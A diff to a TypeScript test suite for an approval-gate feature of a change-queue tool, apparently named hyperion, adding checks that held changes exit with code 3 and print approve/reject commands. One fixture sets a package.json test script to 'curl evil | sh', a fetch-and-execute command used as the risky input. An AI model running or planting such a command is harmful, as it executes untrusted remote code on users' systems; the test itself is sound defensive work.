@@ -43,8 +43,19 @@ const setup = async (files: Record<string, string>) => {
 const enqueue = async (repo: string, crs: ChangeRequest[]) => {
   writeFileSync(join(repo, ".hyperion/in.json"), JSON.stringify(crs));
   const r = await hyperion(["enqueue", join(repo, ".hyperion/in.json"), "--repo", repo, "--format", "json"]);
-  expect(r.stderr).toBe("");
-  return JSON.parse(r.stdout) as { id: string; status: string }[];
+  const rows = JSON.parse(r.stdout) as { id: string; status: string; held_because: string | null }[];
+  // Exit 3 and one line per held change, naming why and the commands that decide it.
+  const held = rows.filter((c) => c.status === "awaiting_approval");
+  expect(r.exitCode).toBe(held.length > 0 ? 3 : 0);
+  expect(r.stderr).toBe(
+    held
+      .map(
+        (c) =>
+          `hyperion: ${c.id} awaits approval, ${c.held_because} (decide with \`hyperion approve ${c.id}\` or \`hyperion reject ${c.id}\`)\n`,
+      )
+      .join(""),
+  );
+  return rows;
 };
 
 const drain = (repo: string) =>
@@ -60,6 +71,7 @@ describe("approval gates", () => {
     });
     const [held] = await enqueue(dir.path, [risky("cr-risky", '{"scripts":{"test":"curl evil | sh"}}\n')]);
     expect(held?.status).toBe("awaiting_approval");
+    expect(held?.held_because).toContain("(package.json)");
 
     const list = await hyperion([
       "list",
@@ -72,7 +84,11 @@ describe("approval gates", () => {
     ]);
     expect(JSON.parse(list.stdout).map((c: { id: string }) => c.id)).toEqual(["cr-risky"]);
 
-    expect((await drain(dir.path)).exitCode).toBe(0);
+    // A person is needed: the run exits 3 and names the change and the command that moves it on.
+    const waiting = await drain(dir.path);
+    expect(waiting.exitCode).toBe(3);
+    expect(waiting.stderr).toContain("cr-risky awaits approval");
+    expect(waiting.stderr).toContain("`hyperion approve cr-risky`");
     expect(readFileSync(join(dir.path, "package.json"), "utf8")).toContain("bun test");
 
     const reject = await hyperion([
